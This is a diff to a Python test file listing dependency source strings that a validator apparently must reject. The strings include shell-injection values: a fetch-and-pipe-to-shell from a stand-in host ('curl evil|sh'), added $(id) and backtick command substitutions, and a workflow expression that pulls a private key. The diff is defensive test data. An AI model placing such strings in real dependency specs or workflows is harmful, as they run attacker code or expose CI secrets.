@@ -46,6 +46,9 @@ def test_exact_sources_are_accepted(text: str, kind: str) -> None:
         f"git+http://github.com/msp/zerotek-cw-reconciler@{SHA}",  # plain http
         f"git+https://user:tok@github.com/msp/r@{SHA}",  # a credential in a workflow
         f"git+https://github.com/msp/r'; curl evil|sh; '@{SHA}",  # shell injection
+        f"git+https://github.com/msp/${{{{secrets.CW_PRIVATE_KEY}}}}@{SHA}",  # an expression
+        f"git+https://github.com/msp/$(id)@{SHA}",
+        f"git+https://github.com/msp/`id`@{SHA}",
         "https://files.example.com/x-1.0-py3-none-any.whl",  # no hash
         f"https://files.example.com/x-1.0.tar.gz#sha256={DIGEST}",  # an sdist runs code
         f"file:///tmp/x-1.0-py3-none-any.whl#sha256={DIGEST}",  # CI cannot reach it
